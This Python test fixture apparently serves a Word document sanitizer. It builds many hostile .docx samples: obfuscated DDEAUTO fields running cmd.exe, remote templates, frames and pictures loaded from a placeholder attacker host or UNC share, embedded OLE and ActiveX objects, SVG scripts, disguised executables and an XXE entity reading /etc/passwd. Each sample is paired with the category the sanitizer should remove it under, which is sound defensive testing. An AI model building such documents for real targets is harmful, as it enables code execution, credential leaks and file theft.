"""Word documents that fetch, run or hide something, in every way we could think of."""

from __future__ import annotations

from documents.inspection.taken_out import TakenOut
from tests.documents.hostile import EVIL, Hostile
from tests.documents.rare import image, picture
from tests.documents.word import HEAD, SPACES, field, paragraph, relations, run, text, word

COMMAND = f"c:\\\\windows\\\\cmd.exe /k {EVIL}"
CODES = " ".join(str(ord(letter)) for letter in "DDEAUTO")
TRANSITIONAL = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
STRICT = "http://purl.oclc.org/ooxml/wordprocessingml/main"


def told(words: str) -> str:
    return run(f"<w:instrText>{words}</w:instrText>")


QUOTE = told(" ") + field(f"QUOTE {CODES}", "DDEAUTO") + told(f" {COMMAND}")
BODY = f"<w:body>{paragraph(text('x') + field(f'DDEAUTO {COMMAND}'))}</w:body>"


def instruction(told: str) -> bytes:
    return word(paragraph(field(told)))


def other_prefix() -> bytes:
    body = paragraph(field(f"DDEAUTO {COMMAND}")).replace("w:", "evil:")
    document = f"{HEAD}<evil:document {SPACES.replace('xmlns:w=', 'xmlns:evil=')}><evil:body>{body}"
    return word(document=f"{document}<evil:p><evil:r><evil:t>x</evil:t></evil:r></evil:p></evil:body></evil:document>")


def no_prefix() -> bytes:
    spaces = (
        SPACES.replace("xmlns:w=", "xmlns=") + ' xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'
    )
    body = paragraph(field(f"DDEAUTO {COMMAND}")).replace("<w:", "<").replace("</w:", "</")
    return word(document=f"{HEAD}<document {spaces}><body><p><r><t>x</t></r></p>{body}</body></document>")


def strict() -> bytes:
    return word(document=f"{HEAD}<w:document {SPACES}>{BODY}</w:document>".replace(TRANSITIONAL, STRICT))


def utf_16() -> bytes:
    return word(document=f"{HEAD}<w:document {SPACES}>{BODY}</w:document>".replace("UTF-8", "UTF-16").encode("utf-16"))


def linked(body: str, *links: tuple[str, str, bool]) -> bytes:
    return word(body, links)


def in_settings(inside: str, *links: tuple[str, str, bool]) -> bytes:
    settings = f"{HEAD}<w:settings {SPACES}>{inside}</w:settings>"
    return word(
        "", [("settings", "settings.xml")],
        {"word/settings.xml": settings, "word/_rels/settings.xml.rels": relations(links)},
    )  # fmt: skip


def drawing(inside: str, before: str = "") -> bytes:
    spaces = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'
    svg = f'{before}<svg {spaces}>{inside}<path d="M0 0"/></svg>'
    return word(picture(), [("image", "media/i.svg")], {"word/media/i.svg": svg})


def shape(attributes: str) -> bytes:
    return word(paragraph(run(f"<w:pict><v:shape {attributes}><v:imagedata {attributes}/></v:shape></w:pict>")))


def part_of(kind: str, name: str, data: str | bytes, body: str = "") -> bytes:
    return word(body, [(kind, name)], {f"word/{name}": data})


def ole() -> bytes:
    shown = '<v:shape><v:imagedata r:id="rId2"/></v:shape><o:OLEObject Type="Embed" ProgID="Package" r:id="rId1"/>'
    return word(
        paragraph(run(f"<w:object>{shown}</w:object>")),
        [("oleObject", "embeddings/oleObject1.bin"), ("image", "media/image1.png")],
        {"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0" + EVIL.encode(), "word/media/image1.png": image("PNG")},
    )


def control() -> bytes:
    return word(
        paragraph(run('<w:object><w:control r:id="rId1" w:name="X"/></w:object>')),
        [("control", "activeX/activeX1.xml")],
        {"word/activeX/activeX1.xml": f"<a>{EVIL}</a>", "word/activeX/activeX1.bin": EVIL},
    )


def add_in() -> bytes:
    kind = "http://schemas.microsoft.com/office/2011/relationships/webextensiontaskpanes"
    return word(
        package=[(kind, "word/webextensions/taskpanes.xml")],
        parts={"word/webextensions/taskpanes.xml": f"<a>{EVIL}</a>"},
    )


def ribbon() -> bytes:
    kind = "http://schemas.microsoft.com/office/2007/relationships/ui/extensibility"
    return word(package=[(kind, "customUI/customUI14.xml")], parts={"customUI/customUI14.xml": f"<a onLoad='{EVIL}'/>"})


def model() -> bytes:
    shown = '<mc:AlternateContent><mc:Choice Requires="am3d"><am3d:model3d r:embed="rId1"/></mc:Choice><mc:Fallback>'
    return word(
        paragraph(run(f"{shown}<w:t>a picture instead</w:t></mc:Fallback></mc:AlternateContent>")),
        [("http://schemas.microsoft.com/office/2017/06/relationships/model3d", "media/model3d1.glb")],
        {"word/media/model3d1.glb": f"glTF{EVIL}"},
    )


DDE = ("DDE", EVIL)
ENTITIES = "".join(f"&#{ord(letter)};" for letter in "DDEAUTO")
FRAMES = '<w:frameset><w:frame><w:sourceFileName r:id="rId1"/></w:frame></w:frameset>'
LINKED = f"https://{EVIL}/x"

WORD = {
    "DDEAUTO": Hostile(instruction(f"DDEAUTO {COMMAND}"), TakenOut.FIELD, DDE, ("shown",)),
    "DDE in small letters": Hostile(instruction(f" dde {COMMAND}"), TakenOut.FIELD, ("dde", EVIL)),
    "DDEAUTO by entities": Hostile(instruction(f"{ENTITIES} {COMMAND}"), TakenOut.FIELD, DDE),
    "DDEAUTO by hexadecimal entities": Hostile(instruction(f"&#x44;&#x44;EAUTO {COMMAND}"), TakenOut.FIELD, DDE),
    "DDEAUTO by CDATA": Hostile(instruction(f"<![CDATA[DDE]]>AUTO {COMMAND}"), TakenOut.FIELD, DDE),
    "DDEAUTO with a comment": Hostile(instruction(f"DDE<!-- x -->AUTO {COMMAND}"), TakenOut.FIELD, DDE),
    "DDEAUTO with an instruction to programs": Hostile(instruction(f"DDE<?x y?>AUTO {COMMAND}"), TakenOut.FIELD, DDE),
    "DDEAUTO by another prefix": Hostile(other_prefix(), TakenOut.FIELD, DDE),
    "DDEAUTO without a prefix": Hostile(no_prefix(), TakenOut.FIELD, DDE),
    "DDEAUTO in strict Open XML": Hostile(strict(), TakenOut.FIELD, DDE),
    "DDEAUTO in UTF-16": Hostile(utf_16(), TakenOut.FIELD, DDE),
    "DDEAUTO by QUOTE": Hostile(word(paragraph(field(QUOTE, xml=True))), TakenOut.FIELD, (EVIL, "QUOTE")),
    "half of it by QUOTE": Hostile(
        word(paragraph(field(told("DDE") + field("QUOTE 65 85 84 79", "AUTO") + told(f" {EVIL}"), xml=True))),
        TakenOut.FIELD,
        DDE,
    ),
    "QUOTE inside a link": Hostile(
        word(paragraph(field(told("HYPERLINK ") + field("QUOTE 102", "file:") + told(f"{EVIL}"), xml=True))),
        TakenOut.FIELD,
    ),
    "DDEAUTO in pieces": Hostile(
        word(paragraph(field("".join(told(f"{each}") for each in ("D", "DE", f"AUTO {EVIL}")), xml=True))),
        TakenOut.FIELD,
        (EVIL, "AUTO"),
    ),
    "DDEAUTO as text of the instruction": Hostile(
        word(paragraph(field(text("DDEAUTO ") + told(f"{EVIL}"), xml=True))),
        TakenOut.FIELD,
        DDE,
    ),
    "DDEAUTO as a simple field": Hostile(
        word(paragraph(f'<w:fldSimple w:instr=" {ENTITIES} {EVIL}">{text("shown")}</w:fldSimple>')),
        TakenOut.FIELD,
        DDE,
        ("shown",),
    ),
    "a simple field that writes another": Hostile(
        word(
            paragraph(
                field(f'<w:fldSimple w:instr="QUOTE {CODES}"><w:r/></w:fldSimple>' + told(f" PAGE {EVIL}"), xml=True)
            )
        ),
        TakenOut.FIELD,
    ),
    "DDEAUTO that never ends": Hostile(
        word(paragraph(run('<w:fldChar w:fldCharType="begin"/>') + told(f"DDEAUTO {EVIL}"))),
        TakenOut.FIELD,
        DDE,
    ),
    "DDEAUTO without marks": Hostile(word(paragraph(told(f"DDEAUTO {EVIL}"))), TakenOut.FIELD, DDE),
    "DDEAUTO in a header": Hostile(
        part_of("header", "header1.xml", f"{HEAD}<w:hdr {SPACES}>{paragraph(field(f'DDEAUTO {EVIL}'))}</w:hdr>"),
        TakenOut.FIELD,
        DDE,
    ),
    "DDEAUTO that was deleted": Hostile(
        word(paragraph(field(run(f"<w:delInstrText>DDEAUTO {EVIL}</w:delInstrText>"), xml=True))),
        TakenOut.FIELD,
        DDE,
    ),
    "INCLUDEPICTURE": Hostile(
        instruction(f'INCLUDEPICTURE "{LINKED}" \\d'), TakenOut.FIELD, (EVIL, "INCLUDE"), ("shown",)
    ),
    "INCLUDETEXT": Hostile(instruction(f'INCLUDETEXT "\\\\\\\\{EVIL}\\\\share"'), TakenOut.FIELD, (EVIL, "INCLUDE")),
    "INCLUDE": Hostile(instruction(f'INCLUDE "{LINKED}"'), TakenOut.FIELD),
    "LINK": Hostile(instruction(f"LINK Excel.Sheet.8 {LINKED}"), TakenOut.FIELD),
    "IMPORT": Hostile(instruction(f"IMPORT {LINKED}"), TakenOut.FIELD),
    "DATABASE": Hostile(instruction(f'DATABASE \\c "{EVIL}"'), TakenOut.FIELD),
    "RD": Hostile(instruction(f'RD "{LINKED}"'), TakenOut.FIELD),
    "a button for a macro": Hostile(
        instruction(f"MACROBUTTON {EVIL} Click here"), TakenOut.FIELD, (EVIL, "MACROBUTTON"), ("Click here",)
    ),
    "a field nobody knows": Hostile(instruction(f"FETCH {EVIL}"), TakenOut.FIELD),
    "a field with a link to a program": Hostile(
        instruction('HYPERLINK "javascript:alert(1)"'), TakenOut.LINK, ("javascript",)
    ),
    "a field with two targets": Hostile(instruction(f'HYPERLINK "https://ok.example" "file://{EVIL}"'), TakenOut.LINK),
    "a field with a bookmark and a target": Hostile(
        instruction(f'HYPERLINK \\l "x" \\\\\\\\{EVIL}\\\\x'), TakenOut.LINK
    ),
    "a link to a file": Hostile(linked("", ("hyperlink", f"file://{EVIL}/x", True)), TakenOut.LINK),
    "a link to a share": Hostile(linked("", ("hyperlink", f"\\\\{EVIL}\\x", True)), TakenOut.LINK),
    "a link that is a script": Hostile(linked("", ("hyperlink", f"JavaScript:{EVIL}", True)), TakenOut.LINK),
    "a link that is data": Hostile(linked("", ("hyperlink", f"data:text/html,{EVIL}", True)), TakenOut.LINK),
    "a link with a blank before it": Hostile(linked("", ("hyperlink", f" javascript:{EVIL}", True)), TakenOut.LINK),
    "a link that says it is inside": Hostile(linked("", ("hyperlink", f"file://{EVIL}/x", False)), TakenOut.LINK),
    "a link of a shape": Hostile(shape(f'href="javascript:{EVIL}" o:althref="file://{EVIL}"'), TakenOut.LINK),
    "a picture of a shape from a share": Hostile(shape(f'src="https://{EVIL}/i.png"'), TakenOut.REMOTE),
    "a picture from elsewhere": Hostile(linked(picture(), ("image", LINKED, True)), TakenOut.REMOTE),
    "a picture that says it is inside": Hostile(linked(picture(), ("image", LINKED, False)), TakenOut.REMOTE),
    "a template from elsewhere": Hostile(
        in_settings('<w:attachedTemplate r:id="rId1"/>', ("attachedTemplate", LINKED, True)), TakenOut.REMOTE
    ),
    "a template from a share": Hostile(
        in_settings('<w:attachedTemplate r:id="rId1"/>', ("attachedTemplate", f"file://{EVIL}/x", True)),
        TakenOut.REMOTE,
    ),
    "a template from a UNC path": Hostile(
        in_settings('<w:attachedTemplate r:id="rId1"/>', ("attachedTemplate", f"\\\\{EVIL}\\x", True)), TakenOut.REMOTE
    ),
    "data for a mail merge": Hostile(
        in_settings(
            f'<w:mailMerge><w:query w:val="SELECT {EVIL}"/><w:dataSource r:id="rId1"/></w:mailMerge>',
            ("mailMergeSource", LINKED, True),
        ),
        TakenOut.REMOTE,
    ),
    "a schema from elsewhere": Hostile(
        in_settings(f'<w:schemaLibrary><w:schema w:manifestLocation="{LINKED}"/></w:schemaLibrary><w:mailMerge/>'),
        TakenOut.REMOTE,
    ),
    "a transformation": Hostile(
        in_settings('<w:saveThroughXslt r:id="rId1"/>', ("transform", LINKED, True)), TakenOut.REMOTE
    ),
    "frames": Hostile(
        word(
            "",
            [("webSettings", "webSettings.xml")],
            {
                "word/webSettings.xml": f"{HEAD}<w:webSettings {SPACES}>{FRAMES}</w:webSettings>",
                "word/_rels/webSettings.xml.rels": relations([("frame", LINKED, True)]),
            },
        ),
        TakenOut.REMOTE,
    ),
    "another document inside": Hostile(
        linked('<w:subDoc r:id="rId1"/>', ("subDocument", LINKED, True)), TakenOut.REMOTE
    ),
    "a page as a chunk": Hostile(
        part_of("aFChunk", "chunk.html", f"<script>{EVIL}</script>", '<w:altChunk r:id="rId1"/>'), TakenOut.REMOTE
    ),
    "an embedded object": Hostile(ole(), TakenOut.OBJECT, (EVIL, "OLEObject", 'r:id="rId1"'), ("rId2",)),
    "a linked object": Hostile(
        linked(paragraph(run('<w:object><o:OLEObject r:id="rId1"/></w:object>')), ("oleObject", LINKED, True)),
        TakenOut.OBJECT,
    ),
    "ActiveX": Hostile(control(), TakenOut.OBJECT, (EVIL, "w:control")),
    "an add-in": Hostile(add_in(), TakenOut.ADD_IN),
    "a menu with macros": Hostile(ribbon(), TakenOut.ADD_IN),
    "a film from the web": Hostile(
        word(paragraph(run(f'<w:drawing><wp15:webVideoPr embeddedHtml="&lt;iframe src={LINKED}"/></w:drawing>'))),
        TakenOut.MEDIA,
        (EVIL, "webVideo"),
    ),
    "a 3D model": Hostile(model(), TakenOut.MEDIA, (EVIL, "am3d:model3d"), ("a picture instead",)),
    "sound": Hostile(part_of("audio", "media/a.wav", f"RIFF{EVIL}"), TakenOut.MEDIA),
    "a program that nothing refers to": Hostile(
        word(parts={"word/run.js": EVIL}), TakenOut.ATTACHMENT, (EVIL, "run.js")
    ),
    "a program called a picture": Hostile(part_of("image", "media/i.png", f"MZ{EVIL}", picture()), TakenOut.PICTURE),
    "a compound file called a picture": Hostile(
        part_of("image", "media/i.png", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + EVIL.encode(), picture()),
        TakenOut.PICTURE,
    ),
    "a font that is none": Hostile(part_of("font", "fonts/f.exe", f"MZ{EVIL}"), TakenOut.OBJECT),
    "a part of an unknown kind": Hostile(part_of("http://evil/unknown", "x.xml", f"<a>{EVIL}</a>"), TakenOut.OBJECT),
    "a drawing with a script": Hostile(drawing(f"<script>{EVIL}</script>"), TakenOut.SCRIPT, (EVIL, "script")),
    "a drawing with a script by another prefix": Hostile(
        drawing(f'<x:script xmlns:x="http://www.w3.org/2000/svg">{EVIL}</x:script>'), TakenOut.SCRIPT
    ),
    "a drawing with a page in it": Hostile(drawing(f"<foreignObject>{EVIL}</foreignObject>"), TakenOut.SCRIPT),
    "a drawing that reacts": Hostile(drawing(f'<g onload="{EVIL}"/>'), TakenOut.SCRIPT),
    "a drawing with a picture from elsewhere": Hostile(drawing(f'<image xlink:href="{LINKED}"/>'), TakenOut.REMOTE),
    "the same without a namespace": Hostile(drawing(f'<image href="{LINKED}"/>'), TakenOut.REMOTE),
    "a drawing with a picture that is a drawing": Hostile(
        drawing(f'<image href="data:image/svg+xml,{EVIL}"/>'), TakenOut.REMOTE
    ),
    "a drawing that uses another": Hostile(drawing(f'<use href="{LINKED}#a"/>'), TakenOut.REMOTE),
    "a drawing with a style from elsewhere": Hostile(drawing(f'<style>@import "{LINKED}";</style>'), TakenOut.REMOTE),
    "a drawing with a font from elsewhere": Hostile(
        drawing(f"<style>@font-face{{src:URL( '{LINKED}')}}</style>"), TakenOut.REMOTE
    ),
    "a drawing with a fill from elsewhere": Hostile(drawing(f'<g fill="url({LINKED}#a)"/>'), TakenOut.REMOTE),
    "a style hidden by escapes": Hostile(drawing(f'<g style="fill:u\\72l({LINKED})"/>'), TakenOut.REMOTE),
    "a drawing with a link to a script": Hostile(drawing(f'<a href="javascript:{EVIL}"/>'), TakenOut.LINK),
    "a link that becomes a script": Hostile(
        drawing(f'<a href="#x"><set attributeName="href" to="javascript:{EVIL}"/></a><script/>'),
        TakenOut.SCRIPT,
    ),
    "a drawing with an entity from elsewhere": Hostile(
        drawing("<text>&x;</text><script/>", '<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>'),
        TakenOut.SCRIPT,
        (EVIL, "root:"),
    ),
}
